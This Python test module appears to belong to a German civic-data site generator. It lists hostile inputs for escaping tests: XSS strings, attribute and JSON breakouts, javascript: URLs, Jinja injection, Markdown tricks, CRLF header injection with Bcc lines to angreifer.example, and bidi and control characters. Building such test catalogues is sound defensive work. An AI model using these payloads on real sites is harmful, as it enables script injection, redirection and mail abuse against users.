"""The catalogue of hostile input every output format must survive (issue 12).

One list for every test that injects text into data, front matter, ``mkdocs.yml``, Markdown or
an OParl export: scripts, event handlers, SVG, ``javascript:``/``data:`` addresses, attribute
breakouts, ``</script>`` inside JSON, Jinja braces, Markdown link and image tricks, entities,
bidi and line breaks aimed at ``mailto:``/``tel:``/vCard/iCalendar fields.

``CANARY`` is what a payload would do if it ran: a test installs dialog and console hooks and
checks that ``window.__rathaus_canary`` never becomes set and no dialog opens.

``text_payloads`` are the ones a text field may legitimately hold after escaping (they must be
shown as text, never interpreted); ``refused_payloads`` contain characters ``rathaus check`` must
refuse with a German message (controls, bidi overrides, lone surrogates), because no escaping
makes them harmless in every format.
"""

from __future__ import annotations

from dataclasses import dataclass

CANARY = "window.__rathaus_canary=1"
"""The code every executable payload runs; a browser test asserts it never ran."""


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    refused: bool = False
    """True when ``rathaus check`` must reject the value instead of escaping it."""


_PAYLOADS: tuple[Payload, ...] = (
    # Elements that run code
    Payload("script", f"<script>{CANARY}</script>"),
    Payload("script-upper", f"<SCRIPT>{CANARY}</SCRIPT>"),
    Payload("script-src", "<script src=https://angreifer.example/x.js></script>"),
    Payload("script-split", f"<scr<script>ipt>{CANARY}</scr</script>ipt>"),
    Payload("img-onerror", f"<img src=x onerror={CANARY}>"),
    Payload("svg-onload", f"<svg onload={CANARY}>"),
    Payload("svg-script", f"<svg><script>{CANARY}</script></svg>"),
    Payload("iframe-srcdoc", f'<iframe srcdoc="<script>{CANARY}</script>"></iframe>'),
    Payload("details-ontoggle", f"<details open ontoggle={CANARY}>"),
    Payload("body-onload", f"<body onload={CANARY}>"),
    Payload("style-expression", "<style>*{background:url(https://angreifer.example/x)}</style>"),
    Payload(
        "meta-refresh", '<meta http-equiv="refresh" content="0;url=https://angreifer.example">'
    ),
    Payload("base-href", '<base href="https://angreifer.example/">'),
    Payload("object-data", '<object data="https://angreifer.example/x.swf"></object>'),
    Payload(
        "form-action", '<form action="https://angreifer.example"><button>Senden</button></form>'
    ),
    # Attribute breakouts (into content="…", title="…", href="…")
    Payload("attr-dq-breakout", f'"><script>{CANARY}</script>'),
    Payload("attr-sq-breakout", f"'><script>{CANARY}</script>"),
    Payload("attr-event-dq", f'" autofocus onfocus="{CANARY}'),
    Payload("attr-event-sq", f"' autofocus onfocus='{CANARY}"),
    Payload("attr-unquoted", f"x onmouseover={CANARY}"),
    # Addresses
    Payload("javascript-url", f"javascript:{CANARY}"),
    Payload("javascript-url-mixed", f"JaVaScRiPt:{CANARY}"),
    Payload("javascript-url-entity", f"&#106;avascript:{CANARY}"),
    Payload("data-url", f"data:text/html,<script>{CANARY}</script>"),
    Payload("vbscript-url", "vbscript:msgbox(1)"),
    # Closing the surrounding element
    Payload("close-script", f"</script><script>{CANARY}</script>"),
    Payload("close-title", f"</title><script>{CANARY}</script>"),
    Payload("close-textarea", f"</textarea><script>{CANARY}</script>"),
    Payload("close-style", f"</style><script>{CANARY}</script>"),
    Payload("html-comment", f"<!--<script>{CANARY}</script>-->"),
    Payload("cdata", f"<![CDATA[<script>{CANARY}</script>]]>"),
    # JSON and JSON-LD
    Payload("json-breakout", f'"}}</script><script>{CANARY}</script>'),
    Payload("json-quote", '", "@type": "Angriff'),
    # Templates
    Payload("jinja-expression", "{{ 7*7 }} {{ config }}"),
    Payload("jinja-statement", "{% for x in range(3) %}x{% endfor %}"),
    Payload("jinja-comment", "{# versteckt #}"),
    # Markdown tricks (for values that enter Markdown)
    Payload("md-link-js", f"[Klick](javascript:{CANARY})"),
    Payload("md-image-onerror", f'![x](x" onerror="{CANARY})'),
    Payload("md-autolink", f"<javascript:{CANARY}>"),
    Payload("md-reference", f"[x]: javascript:{CANARY}"),
    Payload("md-heading", "# Überschrift\n\n<script>x</script>"),
    Payload("md-attr-list", f"Titel {{: onclick={CANARY} }}"),
    Payload("md-emphasis", "**fett** _kursiv_ `code` ~~weg~~"),
    Payload("md-html-block", f"<div markdown>\n<script>{CANARY}</script>\n</div>"),
    # Entities and escapes that must stay text
    Payload("entity-lt", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Payload("entity-amp", "Bildung & Teilhabe, Straße & Platz, A<B, 3>2"),
    Payload("backslashes", "C:\\Pfad\\datei \\n \\u0041"),
    Payload("quotes", "„Zitat“ »Zitat« \"Zitat\" 'Zitat'"),
    # Line breaks and headers aimed at mailto:, tel:, vCard, iCalendar and Atom
    Payload("crlf-header", "Name\r\nBcc: angreifer@angreifer.example", refused=True),
    Payload("lf-vcard", "Name\nEMAIL:angreifer@angreifer.example", refused=True),
    Payload("ics-property", "Titel\r\nATTACH:https://angreifer.example/x", refused=True),
    Payload("mailto-query", "?bcc=angreifer@angreifer.example&subject=x"),
    Payload("vcard-separators", "Nachname;Vorname,Zweitname:Wert\\"),
    # Characters no escaping makes harmless everywhere
    Payload("bidi-override", "Marco \u202eissoR", refused=True),
    Payload("bidi-isolate", "Name\u2067x\u2069", refused=True),
    Payload("nul", "Name\x00Rest", refused=True),
    Payload("escape", "Name\x1b[31mRot", refused=True),
    Payload("backspace", "Name\bX", refused=True),
    Payload("c1-control", "Name\x85Rest", refused=True),
    Payload("line-separator", "Zeile\u2028Zeile", refused=True),
    Payload("paragraph-separator", "Absatz\u2029Absatz", refused=True),
    Payload("zero-width", "Bürger\u200bbüro", refused=True),
    Payload("lone-surrogate", "Name\ud800Rest", refused=True),
)

PAYLOADS: tuple[Payload, ...] = _PAYLOADS
text_payloads: tuple[Payload, ...] = tuple(p for p in _PAYLOADS if not p.refused)
refused_payloads: tuple[Payload, ...] = tuple(p for p in _PAYLOADS if p.refused)

assert len({p.name for p in PAYLOADS}) == len(PAYLOADS), "payload names must be unique"
assert len(PAYLOADS) >= 40
